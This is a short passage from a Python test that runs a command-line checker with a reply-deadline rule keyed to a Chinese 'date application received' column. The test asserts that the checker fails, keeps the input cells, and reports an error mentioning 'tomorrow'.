    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期")
    assert r.returncode == 1
    got = parse_csv_text(r.stdout)
    assert_cells_kept(rows, got)
    assert "明天" in result(got[2], 2, "error")
